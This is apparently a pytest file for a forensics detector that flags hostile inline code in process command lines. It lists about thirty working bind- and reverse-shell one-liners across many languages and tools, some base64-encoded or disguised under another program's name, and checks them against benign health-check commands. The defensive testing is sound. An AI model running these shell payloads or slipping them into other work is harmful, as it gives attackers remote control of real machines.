"""Code in command lines, judged by what it does: many languages and spellings; ordinary one-liners left alone."""

# ruff: noqa: E501 - a command stands on one line
from __future__ import annotations

import base64
import shlex
from pathlib import Path
from typing import Any

import pytest
from analyze_cases import make_case, process

from forensics.analyze import build_analysis
from forensics.analyze.inline_code import judge_inline
from forensics.model import Analysis, Severity, Verdict

PERL_BIND = r"""perl -MIO::Socket -e '$s=IO::Socket::INET->new(LocalPort=>31337,Listen=>1);$c=$s->accept;open STDIN,"<&",$c;open STDOUT,">&",$c;exec "/bin/sh"'"""
HIDDEN = base64.b64encode(
    b'import socket,subprocess as p;s=socket.create_connection(("192.0.2.1",4));p.call(["sh"],stdin=s,stdout=s)'
).decode()
HOSTILE = [
    PERL_BIND,
    r"""nginx -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("192.0.2.1")));open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");'""",
    r"""perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.1:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'""",
    r"""perl -e 'use IO::Socket; my $s = new IO::Socket::INET(PeerAddr => "192.0.2.1:80"); while (<$s>) { print $s qx($_) }'""",
    r"""python3 -c 'import socket as k,os;s=k.socket();s.bind(("",31337));s.listen();c,_=s.accept();[os.dup2(c.fileno(),n) for n in range(3)];os.execl("/bin/sh","sh")'""",
    r"""python3 -c 'from socket import *;from subprocess import *;s=socket();s.connect(("192.0.2.1",1));Popen("sh",stdin=s,stdout=s,stderr=s)'""",
    r"""python3 -c 'import socket;s=socket.create_connection(("192.0.2.1",1));exec(s.recv(9999))'""",
    r"""python3 -c 'import socket,os
s=socket.socket();s.connect(("192.0.2.1",1))
while 1:
  c=s.recv(1024).decode()
  s.send(os.popen(c).read().encode())'""",
    r"""python3 -c 's=__import__("so"+"cket").socket();s.connect(("192.0.2.1",9));o=__import__("os");[o.dup2(s.fileno(),i) for i in (0,1,2)];o.system("sh")'""",
    f"""python3 -c 'exec(__import__("base64").b64decode("{HIDDEN}"))'""",
    r"""python3 -c 'import urllib.request as u;exec(u.urlopen("http://192.0.2.1/p").read())'""",
    r"""ruby -rsocket -e 'TCPServer.new(31337).accept.tap{|c|$stdin.reopen(c);$stdout.reopen(c);exec "/bin/sh"}'""",
    r"""ruby -rsocket -e 'exit if fork;c=TCPSocket.new("192.0.2.1","1");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'""",
    r"""ruby -rsocket -e 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.1",4444))'""",
    r"""php -r '$s=fsockopen("192.0.2.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'""",
    r"""php -r '$s=stream_socket_server("tcp://0.0.0.0:31337");$c=stream_socket_accept($s);proc_open("sh",[$c,$c,$c],$p);'""",
    r"""php -r '$s=socket_create(2,1,6);socket_bind($s,0,1);socket_listen($s);$c=socket_accept($s);while($d=socket_read($c,99))socket_write($c,`$d`);'""",
    r"""lua -e 'local s=require("socket").tcp();s:connect("192.0.2.1",4444);while true do local r=s:receive();local f=io.popen(r);s:send(f:read("*a"))end'""",
    r"""lua5.1 -e 'local c=require("socket").bind("*",31337):accept();while 1 do os.execute(c:receive()) end'""",
    r"""node -e 'require("net").createServer(c=>{let s=require("child_process").spawn("sh");c.pipe(s.stdin);s.stdout.pipe(c)}).listen(31337)'""",
    r"""node -e 'const n=require("node:net"),c=n.connect(4444,"192.0.2.1");c.on("data",d=>require("child_process").exec(d+"",(e,o)=>c.write(o)))'""",
    r"""bun -e 'require("net").connect(1,"192.0.2.1",function(){require("child_process").spawn("/bin/sh",{stdio:[this,this,this]})})'""",
    r"""tclsh -c 'set s [socket -server a 31337]; proc a {c h p} { while {[gets $c l]>=0} { puts $c [exec sh -c $l] } }; vwait x'""",
    r"""awk 'BEGIN{s="/inet/tcp/31337/0/0";while(1){s|&getline c;while(c|getline)print|&s;close(c)}}'""",
    r"""gawk 'BEGIN{s="/inet/tcp/0/192.0.2.1/4444";for(;s|&getline c;close(c))while(c|getline)print|&s}'""",
    r"""socat TCP-LISTEN:31337,reuseaddr,fork EXEC:/bin/sh,pty""",
    r"""socat tcp:192.0.2.1:4 SHELL:sh""",
    r"""ncat -lvkp 31337 --sh-exec=/bin/sh""",
    r"""ncat -lvkp 31337 -c /bin/bash""",
    r"""sh -c 'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:4444 > /tmp/s'""",
    r"""/usr/local/bin/app -e 'require "socket";s=TCPServer.open(99).accept;Process.exec("sh",in: s,out: s)'""",
]
ORDINARY = [
    """python3 -c 'import socket;s=socket.create_connection(("db",5432),5);s.close()'""",
    """python3 -c 'import socket,sys;s=socket.socket();sys.exit(s.connect_ex(("127.0.0.1",8000)))'""",
    """python3 -c 'from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5, pipe_handle=7)' --multiprocessing-fork""",
    """python3 -c 'from multiprocessing.resource_tracker import main;main(4)'""",
    """python3 -c 'import urllib.request;urllib.request.urlopen("http://localhost:8000/health")'""",
    """python3 -m http.server 8000 --bind 0.0.0.0""",
    """python3 -m gunicorn app:app --bind unix:/run/socket --worker-tmp-dir /dev/shm""",
    """node -e 'require("http").get("http://localhost:3000/health", r => process.exit(r.statusCode === 200 ? 0 : 1))'""",
    """node -e 'require("net").connect(5432, "db").on("connect", () => process.exit(0))'""",
    """node --require ./tracing.js --enable-source-maps server.js""",
    """php -r 'exit(@fsockopen("127.0.0.1", 9000) ? 0 : 1);'""",
    """perl -MIO::Socket::INET -e 'exit !IO::Socket::INET->new("db:3306")'""",
    """ruby -e 'require "socket"; TCPSocket.new("redis", 6379).close'""",
    """sh -c 'until nc -z db 5432; do sleep 1; done; exec app --listen 0.0.0.0:80'""",
    """sh -c 'exec nginx -g "daemon off; error_log /dev/stdout info;"'""",
    """dockerd -H unix:///var/run/docker.sock --exec-root=/var/run/x --host=tcp://0.0.0.0:2376""",
    """mysqld --socket=/run/mysqld/mysqld.sock --bind-address=0.0.0.0 --init-connect='SET NAMES utf8'""",
    """psql -c "select count(*) from sockets where state = 'listen'" """,
    """mongosh --eval 'db.adminCommand({ping: 1})'""",
    """java -Djava.rmi.server.hostname=x -cp /app/* com.example.Main --socket.bind=0.0.0.0""",
    """uwsgi --socket :3031 --exec-pre-app 'sh /migrate.sh' --listen 128""",
    """envoy -c /etc/envoy.yaml --socket-path @envoy""",
    """openssl s_client -connect localhost:443 -servername x""",
    """redis-server --unixsocket /run/redis.sock --bind 127.0.0.1""",
    """sh -c 'until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done; exec java -jar app.jar 2>&1'""",
    """sh -c 'php-fpm --listen /run/php.socket 2>&1; exec nginx -g "daemon off;"'""",
    """sh -c 'python3 -c "import urllib.request as u;u.urlopen(\\"http://db/\\").read()"; exec app'""",
    """python3 -c 'import json,urllib.request as u;print(json.load(u.urlopen("http://localhost/health"))["ok"])'""",
    """node -e 'fetch("http://localhost:80/").then(function (r) { if (!/ok/.exec(r.status)) process.exit(1) })'""",
    """supervisord -n -c /etc/supervisord.conf""",
]


def analyse(root: Path, table: list[dict[str, Any]], **documents: Any) -> Analysis:
    with make_case(root / "case", None, {"processes": {"processes": table, "views": {}}, **documents}) as case:
        return build_analysis(case, yara=False)


@pytest.mark.parametrize("command", HOSTILE)
def test_a_shell_in_code_is_found_whatever_the_language(tmp_path: Path, command: str) -> None:
    argv = shlex.split(command)
    analysis = analyse(tmp_path, [process(40, argv, f"/usr/bin/{Path(argv[0]).name}")])
    assert any(f.severity is Severity.CRITICAL for f in analysis.findings), [f.rule for f in analysis.findings]
    assert analysis.verdict is Verdict.COMPROMISED


@pytest.mark.parametrize("command", ORDINARY)
def test_ordinary_one_liners_are_left_alone(tmp_path: Path, command: str) -> None:
    argv = shlex.split(command)
    analysis = analyse(tmp_path, [process(40, argv, f"/usr/bin/{Path(argv[0]).name}")])
    assert analysis.findings == ()


def test_waiting_for_a_database_and_starting_the_application_is_no_accusation(tmp_path: Path) -> None:
    code = 'import socket,os;socket.create_connection(("db",5432));os.execvp("gunicorn",["gunicorn","app:app"])'
    analysis = analyse(tmp_path, [process(40, ["python3", "-c", code], "/usr/bin/python3.11")])
    assert analysis.verdict is Verdict.NO_EVIDENCE


def test_code_under_a_false_name_is_found_without_a_shell(tmp_path: Path) -> None:
    code = 'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(44,inet_aton("192.0.2.1")));print S `id`'
    analysis = analyse(tmp_path, [process(40, ["nginx", "-e", code], "/usr/local/bin/nginx")])
    assert "process.inline-code-under-another-name" in {f.rule for f in analysis.findings}


def test_hostile_arguments_cost_little() -> None:
    assert judge_inline(("x", "-e", "socket(connect(exec " * 20_000)) is not None
    assert judge_inline(("x", "-e", "exec " * 60_000 + ";")) is None
